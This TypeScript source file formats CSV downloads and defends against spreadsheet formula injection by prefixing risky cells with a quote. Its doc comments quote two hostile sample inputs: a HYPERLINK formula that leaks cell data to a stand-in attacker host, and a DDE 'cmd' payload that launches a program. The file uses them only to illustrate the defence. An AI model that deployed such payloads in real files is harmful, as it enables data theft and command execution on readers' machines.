/**
 * CSV as RFC 4180 describes it, with the two additions spreadsheets need: an optional UTF-8
 * byte-order mark, without which Excel reads UTF-8 as a legacy code page and garbles
 * non-Latin names such as 海康威视; and formula cells made inert (see {@link neutraliseFormula}),
 * so that opening a download can never run what a contributor wrote.
 */

/** The UTF-8 byte-order mark. */
export const UTF8_BOM = '\uFEFF';

/**
 * The first characters that make Excel, LibreOffice Calc or Google Sheets read a cell as a
 * formula (or, for tab and carriage return, shift what follows into one): `=`, `+`, `-`, `@`,
 * tab, carriage return, and the full-width `＝`, `＋`, `－`, `＠` that some of them fold into
 * the ASCII signs.
 */
const FORMULA_START = new Set(['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']);

/**
 * A cell value that a spreadsheet shows as the text it is, as OWASP recommends against CSV
 * injection: a value that starts with a formula character (see `FORMULA_START`), also after
 * leading spaces, which some importers trim, gets a single quote in front, which spreadsheets
 * read as "text follows" and do not display. `=HYPERLINK("https://evil.example/?"&A1)` becomes
 * `'=HYPERLINK(…)`; every other value is returned as it is.
 *
 * A negative number such as `-5` would become the text `'-5`. No column of the site's CSV files
 * holds one: ids, dates and URLs start with a letter or a digit, the one number (`version`) is 1
 * or more, and the lists are ids and dates joined by "; ". Only free text written by a
 * contributor (a title, a summary, a name, a note) can start with one of these characters, and
 * there the quote is what keeps a reader's spreadsheet safe; a script reading the CSV sees it and
 * can strip it, and the JSON files carry every value untouched.
 * @example neutraliseFormula('=1+1') // "'=1+1"
 * @example neutraliseFormula('2019-10-07') // '2019-10-07'
 */
export function neutraliseFormula(value: string): string {
  const first = value.replace(/^ +/, '').charAt(0);
  return FORMULA_START.has(first) ? `'${value}` : value;
}

/**
 * A value written as one CSV field: made inert as a formula ({@link neutraliseFormula}), then
 * quoted when it holds a comma, a double quote, a line break or leading/trailing space, with
 * double quotes inside doubled.
 * @example csvField('a "b", c') // '"a ""b"", c"'
 * @example csvField('=cmd|" /C calc"!A0') // '"\'=cmd|"" /C calc""!A0"'
 */
export function csvField(value: string): string {
  const safe = neutraliseFormula(value);
  return /[",\r\n]|^\s|\s$/.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe;
}

/**
 * Serialises rows as CSV: fields separated by commas, each record ended by CRLF, every field
 * through {@link csvField}.
 * @example formatCsv([['a', 'b'], ['1', '2']]) // 'a,b\r\n1,2\r\n'
 */
export function formatCsv(rows: readonly (readonly string[])[], options: { bom?: boolean } = {}): string {
  const body = rows.map((row) => `${row.map(csvField).join(',')}\r\n`).join('');
  return options.bom ? `${UTF8_BOM}${body}` : body;
}
